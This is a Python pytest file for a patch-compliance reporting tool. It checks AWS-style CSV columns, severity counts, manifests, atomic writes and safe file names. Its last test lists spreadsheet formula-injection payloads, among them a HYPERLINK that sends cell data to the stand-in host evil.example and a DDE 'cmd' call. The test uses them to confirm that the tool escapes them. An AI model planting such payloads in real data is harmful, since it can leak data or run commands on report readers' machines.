"""CSV reports: AWS's exact columns, per-severity counts, manifests, and store == in-memory."""

from __future__ import annotations

import csv
import dataclasses
import json
import os
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from patchfleet.domain.records import (
    ComplianceLevel,
    ComplianceSummary,
    NodeStatus,
    Operation,
    PatchRecord,
    PatchState,
)
from patchfleet.domain.results import NodeResult, RunContext
from patchfleet.errors import InputError, StoreError
from patchfleet.report import csv_reports
from patchfleet.report.csv_reports import (
    DETAIL_COLUMNS,
    LOCAL_NOTE,
    SUMMARY_COLUMNS,
    node_file_stem,
    write_reports_from_results,
    write_reports_from_store,
)
from patchfleet.store.query import ComplianceStore
from patchfleet.store.writer import write_run

# Copied from reference/aws-patch-manager.md section 4.4.
AWS_SUMMARY = [
    "Index", "Instance ID", "Instance name", "Instance IP", "Platform name", "Platform version",
    "SSM Agent version", "Patch baseline", "Patch group", "Compliance status",
    "Compliance severity", "Noncompliant Critical severity patch count",
    "Noncompliant High severity patch count", "Noncompliant Medium severity patch count",
    "Noncompliant Low severity patch count", "Noncompliant Informational severity patch count",
    "Noncompliant Unspecified severity patch count",
]  # fmt: skip
AWS_DETAIL = [
    "Index", "Instance ID", "Instance name", "Patch name", "KB ID/Patch ID", "Patch state",
    "Last report time", "Compliance level", "Patch severity", "Patch classification", "CVE ID",
    "Patch baseline", "Logs URL", "Instance IP", "Platform name", "Platform version",
    "SSM Agent version",
]  # fmt: skip

T0 = datetime(2024, 5, 1, 10, 0, tzinfo=UTC)
END = T0 + timedelta(seconds=42)


def rec(
    package: str, state: PatchState, level: ComplianceLevel | None, **kw: object
) -> PatchRecord:
    return PatchRecord(
        package=package,
        arch="amd64",
        installed_version=kw.pop("installed_version", "1.0-1"),  # type: ignore[arg-type]
        available_version=kw.pop("available_version", "1.0-2"),  # type: ignore[arg-type]
        state=state,
        compliance_level=level,
        **kw,  # type: ignore[arg-type]
    )


WEB_RECORDS = (
    rec("openssl", PatchState.MISSING, ComplianceLevel.CRITICAL, advisory_ids=("DSA-1", "DSA-2"),
        cve_ids=("CVE-2024-1", "CVE-2024-2"), severity="high", classification="security"),
    rec("curl", PatchState.FAILED, ComplianceLevel.CRITICAL),
    rec("linux-image", PatchState.INSTALLED_PENDING_REBOOT, ComplianceLevel.HIGH),
    rec("telnet", PatchState.INSTALLED_REJECTED, ComplianceLevel.MEDIUM),
    rec("zlib1g", PatchState.MISSING, ComplianceLevel.LOW),
    rec("tzdata", PatchState.MISSING, ComplianceLevel.INFORMATIONAL),
    rec("vim", PatchState.MISSING, None),
    rec("less", PatchState.MISSING, ComplianceLevel.UNSPECIFIED),
    # compliant states never count, whatever their level
    rec("bash", PatchState.INSTALLED, ComplianceLevel.CRITICAL, available_version=None),
    rec("htop", PatchState.INSTALLED_OTHER, None, available_version=None, severity="low",
        classification="Bugfix"),
    rec("ghost", PatchState.NOT_APPLICABLE, ComplianceLevel.HIGH),
)  # fmt: skip


def results() -> list[NodeResult]:
    def result(node_id: str, records: tuple[PatchRecord, ...], **kw: object) -> NodeResult:
        return NodeResult(
            node_id=node_id,
            host=str(kw.pop("host")),
            summary=kw.pop("summary"),  # type: ignore[arg-type]
            records=records,
            operation_start_time=T0,
            operation_end_time=END,
            platform_name="Ubuntu",
            platform_version="22.04",
            patch_group="web",
            baseline_id="pb-custom",
            **kw,  # type: ignore[arg-type]
        )

    return [
        result("db-1", (), host="10.0.0.9", failure_reason="UNREACHABLE: timed out",
               summary=ComplianceSummary(NodeStatus.FAILED, None)),
        result("ok-1", (rec("bash", PatchState.INSTALLED, None, available_version=None),),
               host="10.0.0.2", summary=ComplianceSummary(NodeStatus.COMPLIANT, None,
                                                          installed_count=1)),
        result("web-1", WEB_RECORDS, host="10.0.0.1",
               summary=ComplianceSummary(NodeStatus.NON_COMPLIANT, ComplianceLevel.CRITICAL,
                                         missing_count=5)),
    ]  # fmt: skip


def read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf"), "no BOM"
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def csv_files(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*.csv"))}


def test_column_lists_are_exactly_aws() -> None:
    assert list(SUMMARY_COLUMNS) == AWS_SUMMARY and len(AWS_SUMMARY) == 17
    assert list(DETAIL_COLUMNS) == AWS_DETAIL and len(AWS_DETAIL) == 17


def test_all_nodes_report_counts_noncompliant_patches_by_level(tmp_path: Path) -> None:
    files = write_reports_from_results(tmp_path, results(), names={"web-1": "frontend"})
    rows = read_csv(files.all_nodes)
    assert rows[0] == AWS_SUMMARY
    assert rows[1:] == [
        ["1", "db-1", "db-1", "10.0.0.9", "Ubuntu", "22.04", "", "pb-custom", "web", "FAILED",
         "", "0", "0", "0", "0", "0", "0"],
        ["2", "ok-1", "ok-1", "10.0.0.2", "Ubuntu", "22.04", "", "pb-custom", "web", "COMPLIANT",
         "", "0", "0", "0", "0", "0", "0"],
        # Critical: missing + failed; High: pending reboot; Medium: rejected-but-installed;
        # Unspecified: no level + UNSPECIFIED. INSTALLED, INSTALLED_OTHER, NOT_APPLICABLE: none.
        ["3", "web-1", "frontend", "10.0.0.1", "Ubuntu", "22.04", "", "pb-custom", "web",
         "NON_COMPLIANT", "CRITICAL", "2", "1", "1", "1", "1", "2"],
    ]  # fmt: skip


def test_single_node_report_is_a_summary_file_and_a_patches_file(tmp_path: Path) -> None:
    files = write_reports_from_results(tmp_path, results(), detail_nodes=["web-1"])
    assert set(files.node_summaries) == set(files.node_patches) == {"web-1"}
    assert files.node_summaries["web-1"] == tmp_path / "nodes" / "web-1-summary.csv"

    summary = read_csv(files.node_summaries["web-1"])
    assert summary[0] == AWS_SUMMARY
    assert summary[1][:2] == ["1", "web-1"] and summary[1][11:] == ["2", "1", "1", "1", "1", "2"]

    detail = read_csv(files.node_patches["web-1"])
    assert detail[0] == AWS_DETAIL
    by_name = {row[4].rsplit(".", 1)[0]: row for row in detail[1:]}
    assert "ghost" not in by_name  # NOT_APPLICABLE is a count on Linux, never a row
    assert len(detail) == 1 + 10
    assert by_name["openssl"] == [
        by_name["openssl"][0], "web-1", "web-1", "openssl.amd64:1.0-2", "openssl.amd64", "MISSING",
        "2024-05-01T10:00:42Z", "CRITICAL", "high", "security", "CVE-2024-1,CVE-2024-2",
        "pb-custom", "", "10.0.0.1", "Ubuntu", "22.04", "",
    ]  # fmt: skip
    # AWS's cells: title name.arch:[epoch:]version-release, KB ID name.arch
    assert by_name["curl"][3:5] == ["curl.amd64:1.0-2", "curl.amd64"]  # the version it wants
    assert by_name["bash"][3:5] == ["bash.amd64:1.0-1", "bash.amd64"]  # the version it has
    # INSTALLED_OTHER: no severity or classification in the CSV (the store keeps them)
    assert by_name["htop"][5] == "INSTALLED_OTHER" and by_name["htop"][8:10] == ["", ""]
    assert by_name["vim"][7] == "UNSPECIFIED"
    # non-compliant first, then by name; Index runs 1..n
    states = [row[5] for row in detail[1:]]
    assert states[-2:] == ["INSTALLED", "INSTALLED_OTHER"]
    assert [row[0] for row in detail[1:]] == [str(i) for i in range(1, 11)]


def test_failed_node_detail_is_header_only(tmp_path: Path) -> None:
    files = write_reports_from_results(tmp_path, results(), detail_nodes=["db-1"])
    assert read_csv(files.node_patches["db-1"]) == [AWS_DETAIL]


def test_manifests_list_files_of_one_shape(tmp_path: Path) -> None:
    files = write_reports_from_results(tmp_path, results())
    summary = json.loads(files.summary_manifest.read_text())
    assert summary == {
        "patchfleet_note": LOCAL_NOTE,
        "fileLocations": [{"URIs": [files.all_nodes.resolve().as_uri()]}],
        "globalUploadSettings": {
            "format": "CSV",
            "delimiter": ",",
            "textqualifier": '"',
            "containsHeader": "true",
        },
    }
    assert files.patches_manifest is not None
    patches = json.loads(files.patches_manifest.read_text())
    uris = patches["fileLocations"][0]["URIs"]
    assert uris == [files.node_patches[n].resolve().as_uri() for n in ("db-1", "ok-1", "web-1")]
    assert all(Path(uri.removeprefix("file://")).is_file() for uri in uris)
    assert files.summary_manifest.name == "manifest-all-nodes-local.json"
    assert files.patches_manifest.name == "manifest-patches-local.json"


def test_local_manifests_say_upload_only_and_importable_ones_are_plain(tmp_path: Path) -> None:
    """QuickSight imports manifests naming s3:// objects only: a folder kept local gets
    ``-local`` manifests marked for upload only; a folder written for publishing gets the
    importable names with exactly QuickSight's keys. Writing one kind removes the other."""
    local = write_reports_from_results(tmp_path, results())
    assert sorted(p.name for p in tmp_path.glob("*.json")) == [
        "manifest-all-nodes-local.json", "manifest-patches-local.json"]
    for path in (local.summary_manifest, local.patches_manifest):
        assert path is not None
        doc = json.loads(path.read_text())
        assert next(iter(doc)) == "patchfleet_note" and "upload only" in doc["patchfleet_note"]
        assert all(u.startswith("file://") for u in doc["fileLocations"][0]["URIs"])
    published = write_reports_from_results(tmp_path, results(), uri_prefix="s3://b/p/")
    assert sorted(p.name for p in tmp_path.glob("*.json")) == [
        "manifest-all-nodes.json", "manifest-patches.json"]
    for path in (published.summary_manifest, published.patches_manifest):
        assert path is not None
        doc = json.loads(path.read_text())
        assert set(doc) == {"fileLocations", "globalUploadSettings"}
        assert all(u.startswith("s3://b/p/") for u in doc["fileLocations"][0]["URIs"])
    # back to local, without node reports: no manifest of the published kind is left behind
    write_reports_from_results(tmp_path, results(), detail_nodes=[])
    assert sorted(p.name for p in tmp_path.glob("*.json")) == ["manifest-all-nodes-local.json"]
    assert not list((tmp_path / "nodes").glob("*.csv"))


def test_manifest_uri_prefix_for_publishing(tmp_path: Path) -> None:
    files = write_reports_from_results(
        tmp_path, results(), detail_nodes=["web-1"], uri_prefix="s3://bucket/reports/2024-05-01"
    )
    summary = json.loads(files.summary_manifest.read_text())
    assert summary["fileLocations"][0]["URIs"] == ["s3://bucket/reports/2024-05-01/all-nodes.csv"]
    assert files.patches_manifest is not None
    patches = json.loads(files.patches_manifest.read_text())
    assert patches["fileLocations"][0]["URIs"] == [
        "s3://bucket/reports/2024-05-01/nodes/web-1-patches.csv"
    ]


def test_utf8_without_bom_and_csv_quoting(tmp_path: Path) -> None:
    files = write_reports_from_results(
        tmp_path, results(), names={"ok-1": 'café, "prod"'}, detail_nodes=["web-1"]
    )
    raw = files.all_nodes.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert '"café, ""prod"""'.encode() in raw
    assert read_csv(files.all_nodes)[2][2] == 'café, "prod"'
    assert b'"CVE-2024-1,CVE-2024-2"' in files.node_patches["web-1"].read_bytes()


def test_report_from_store_matches_report_from_results(tmp_path: Path) -> None:
    root = tmp_path / "store"
    run = RunContext(run_id="run-a", operation=Operation.SCAN, started_at=T0)
    write_run(root, run, results())
    from_results = write_reports_from_results(tmp_path / "mem", results())
    from_store = write_reports_from_store(root, tmp_path / "disk")
    assert csv_files(tmp_path / "mem") == csv_files(tmp_path / "disk")
    assert sorted(p.name for p in from_results) == sorted(p.name for p in from_store)

    with ComplianceStore(root) as store:
        by_run = write_reports_from_store(store, tmp_path / "by-run", run_id="run-a")
    assert csv_files(tmp_path / "by-run") == csv_files(tmp_path / "mem")
    assert by_run.folder == tmp_path / "by-run"


def test_report_from_store_latest_vs_given_run(tmp_path: Path) -> None:
    root = tmp_path / "store"
    write_run(root, RunContext("run-a", Operation.SCAN, T0), results())
    later = T0 + timedelta(days=1)
    fixed = NodeResult(
        node_id="web-1",
        host="10.0.0.1",
        summary=ComplianceSummary(NodeStatus.COMPLIANT, None, installed_count=1),
        records=(rec("openssl", PatchState.INSTALLED, ComplianceLevel.CRITICAL),),
        operation_start_time=later,
        operation_end_time=later + timedelta(seconds=5),
    )
    write_run(root, RunContext("run-b", Operation.SCAN, later), [fixed])

    latest = write_reports_from_store(root, tmp_path / "latest", detail_nodes=["web-1"])
    rows = read_csv(latest.all_nodes)
    assert [(r[1], r[9], r[11]) for r in rows[1:]] == [
        ("db-1", "FAILED", "0"),
        ("ok-1", "COMPLIANT", "0"),
        ("web-1", "COMPLIANT", "0"),
    ]
    detail = read_csv(latest.node_patches["web-1"])
    assert [r[4] for r in detail[1:]] == ["openssl.amd64"]
    assert detail[1][6] == "2024-05-02T10:00:05Z"

    old = write_reports_from_store(root, tmp_path / "old", run_id="run-a", detail_nodes=[])
    assert [r[9] for r in read_csv(old.all_nodes)[1:]] == ["FAILED", "COMPLIANT", "NON_COMPLIANT"]
    assert old.patches_manifest is None and not old.node_patches


def test_report_from_empty_store_or_unknown_run_says_what_to_do(tmp_path: Path) -> None:
    with pytest.raises(StoreError, match="patchfleet scan"):
        write_reports_from_store(tmp_path / "empty", tmp_path / "out")
    write_run(tmp_path / "s", RunContext("run-a", Operation.SCAN, T0), results())
    with pytest.raises(StoreError, match="run 'run-zz'"):
        write_reports_from_store(tmp_path / "s", tmp_path / "out", run_id="run-zz")
    with pytest.raises(InputError, match="nope"):
        write_reports_from_store(tmp_path / "s", tmp_path / "out", detail_nodes=["nope"])


def test_regenerating_removes_reports_of_nodes_no_longer_reported(tmp_path: Path) -> None:
    write_reports_from_results(tmp_path, results())
    assert (tmp_path / "nodes" / "db-1-patches.csv").exists()
    files = write_reports_from_results(tmp_path, results()[1:], detail_nodes=["web-1"])
    assert sorted(p.name for p in (tmp_path / "nodes").iterdir()) == [
        "web-1-patches.csv",
        "web-1-summary.csv",
    ]
    assert len(read_csv(files.all_nodes)) == 3


def test_regenerating_never_deletes_files_it_did_not_write(tmp_path: Path) -> None:
    """Issue 13 #7: `report --out DIR` deleted DIR/nodes/*-summary.csv of anyone."""
    mine = tmp_path / "nodes"
    mine.mkdir()
    (mine / "finance-summary.csv").write_text("kept\n")
    (mine / "notes-patches.csv").write_text("kept\n")
    write_reports_from_results(tmp_path, results())
    write_reports_from_results(tmp_path, results()[1:], detail_nodes=["web-1"])
    assert sorted(p.name for p in mine.iterdir()) == [
        "finance-summary.csv", "notes-patches.csv", "web-1-patches.csv", "web-1-summary.csv"]
    assert (mine / "finance-summary.csv").read_text() == "kept\n"


def test_writes_are_atomic(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    files = write_reports_from_results(tmp_path, results())
    before = files.all_nodes.read_bytes()

    def broken_replace(src: object, dst: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(csv_reports.os, "replace", broken_replace)
    with pytest.raises(StoreError, match="could not write report file"):
        write_reports_from_results(tmp_path, results()[:1])
    monkeypatch.undo()
    assert files.all_nodes.read_bytes() == before
    assert not [p for p in tmp_path.rglob("*") if p.name.endswith(".tmp")]


def test_report_folder_that_cannot_exist(tmp_path: Path) -> None:
    blocker = tmp_path / "file.txt"
    blocker.write_text("x")
    with pytest.raises(StoreError, match="report folder"):
        write_reports_from_results(blocker / "reports", results())


@pytest.mark.parametrize(
    ("node_id", "expected"),
    [("web-1", "web-1"), ("10.0.0.1", "10.0.0.1"), ("local", "local")],
)
def test_safe_node_ids_are_file_names(node_id: str, expected: str) -> None:
    assert node_file_stem(node_id) == expected


def test_unsafe_node_ids_get_distinct_safe_file_names() -> None:
    a, b = node_file_stem("eu/web 1"), node_file_stem("eu_web_1")
    c = node_file_stem("../etc")
    assert a != b and os.sep not in a and " " not in a
    assert a.startswith("eu_web_1-") and not c.startswith(".")


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1", "-2+3", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", FORMULAS)
def test_tag_values_never_reach_a_spreadsheet_as_formulas(tmp_path: Path, payload: str) -> None:
    """Names come from EC2 Name tags and patch groups from PatchGroup tags: both are written by
    whoever may tag an instance. OWASP: prefix a cell that would start a formula with '."""
    nodes = [dataclasses.replace(r, patch_group=payload) for r in results()]
    files = write_reports_from_results(tmp_path, nodes, names={"web-1": payload},
                                       detail_nodes=["web-1"])
    rows = read_csv(files.all_nodes)
    web = next(r for r in rows if r[1] == "web-1")
    assert web[2] == "'" + payload and web[8] == "'" + payload
    for path in [files.all_nodes, *files.node_patches.values()]:
        for row in read_csv(path):
            assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), row
            assert not any(cell.startswith("-") and not cell.lstrip("-").isdigit()
                           for cell in row), row
